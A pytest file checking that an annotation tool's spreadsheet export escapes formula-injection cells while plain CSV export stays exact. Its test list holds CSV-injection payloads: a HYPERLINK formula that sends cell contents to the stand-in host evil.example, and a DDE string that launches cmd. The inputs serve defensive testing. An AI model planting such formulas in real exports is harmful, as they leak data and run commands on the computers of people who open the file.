"""Exports that other programs open."""

from __future__ import annotations

import csv
from importlib.util import find_spec
from pathlib import Path

import pytest

from teeter.campaigns.export.formats import FORMATS, format_suffix, write_export
from teeter.campaigns.export.rows import ExportRow
from teeter.errors import InputError


def make_row(content: str = "a text", label: str | None = "good", **fields: object) -> ExportRow:
    values: dict[str, object] = {
        "id": "1",
        "content": content,
        "label": label,
        "final_label": label,
        "annotators": 1,
        "predicted": "good",
        "confidence": 0.5,
        "left_out": False,
    }
    return ExportRow(**{**values, **fields})  # type: ignore[arg-type]


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+1+cmd|' /C calc'!A1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_spreadsheet_export_escapes_every_cell_that_would_run_as_a_formula(
    text: str, tmp_path: Path
) -> None:
    row = make_row(text, text, id=text, predicted=text, who=text)

    write_export([row], tmp_path / "out.csv", "spreadsheet")

    (cells,) = read_csv(tmp_path / "out.csv")
    for column in ("id", "text", "label", "predicted", "who"):
        assert cells[column] == f"'{text}"


@pytest.mark.parametrize("text", FORMULAS)
def test_a_csv_export_is_exact(text: str, tmp_path: Path) -> None:
    write_export([make_row(text, text)], tmp_path / "out.csv")

    (cells,) = read_csv(tmp_path / "out.csv")
    assert cells["text"] == cells["label"] == text


def test_a_spreadsheet_export_of_harmless_cells_is_the_csv_export(tmp_path: Path) -> None:
    rows = [
        make_row("a, b = c", "good", answers={"ann": "good"}),
        make_row("1 - 1\n=2", None, confidence=None, left_out=True),
    ]

    write_export(rows, tmp_path / "exact.csv")
    write_export(rows, tmp_path / "safe.csv", "spreadsheet")

    assert (tmp_path / "safe.csv").read_bytes() == (tmp_path / "exact.csv").read_bytes()


def test_every_format_can_be_written_under_its_suffix(tmp_path: Path) -> None:
    image = tmp_path / "cat.png"
    image.write_bytes(b"an image")
    row = make_row(file=image, out_of_fold={"good": 0.9, "poor": 0.1})

    for form in FORMATS:
        package = {"spacy": "spacy", "xlsx": "xlsxwriter"}.get(form, "json")
        if find_spec(package) is None:
            continue
        path = tmp_path / f"{form}{format_suffix(form)}"
        write_export([row], path, form)
        assert path.exists()


def test_an_unknown_format_is_refused_with_the_known_ones(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"Cannot tell the format of .* csv, spreadsheet, xlsx"):
        write_export([make_row()], tmp_path / "out.docx")
    with pytest.raises(InputError, match=r"No format is called 'excel'\. Known: csv, spreadsheet"):
        write_export([make_row()], tmp_path / "out.csv", "excel")
